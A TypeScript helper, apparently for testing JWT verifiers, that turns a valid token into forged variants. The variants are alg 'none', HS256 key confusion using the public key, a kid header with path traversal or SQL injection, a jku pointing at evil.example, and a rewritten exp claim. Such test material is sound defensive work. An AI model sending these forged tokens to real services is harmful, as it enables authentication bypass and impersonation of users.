import { createHmac } from 'node:crypto';

const encode = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');

/**
 * Tokens with the claims of a good one that nobody of the platform signed.
 * @param modulus of a public key, which a careless verifier would take for a shared secret
 */
export function forgedTokens(good: string, modulus: string): Record<string, string> {
  const [head = '', claims = '', signature = ''] = good.split('.');
  const header = JSON.parse(Buffer.from(head, 'base64url').toString()) as Record<string, unknown>;
  const signed = (change: object) => `${encode({ ...header, ...change })}.${claims}.${signature}`;
  const shared = `${encode({ ...header, alg: 'HS256' })}.${claims}`;
  return {
    'alg none': `${encode({ ...header, alg: 'none' })}.${claims}.`,
    'alg none with a signature': signed({ alg: 'none' }),
    'alg HS256 by the public key': `${shared}.${createHmac('sha256', modulus).update(shared).digest('base64url')}`,
    'kid of a file': signed({ kid: '../../../../dev/null' }),
    'kid with SQL': signed({ kid: "' UNION SELECT 'x' --" }),
    'kid unknown': signed({ kid: '00000000-0000-4000-8000-000000000000' }),
    'key of its own': signed({ jku: 'https://evil.example/jwks', jwk: { kty: 'oct', k: 'AA' } }),
    'other claims': `${head}.${encode({ ...(JSON.parse(Buffer.from(claims, 'base64url').toString()) as object), exp: 9_999_999_999 })}.${signature}`,
  };
}
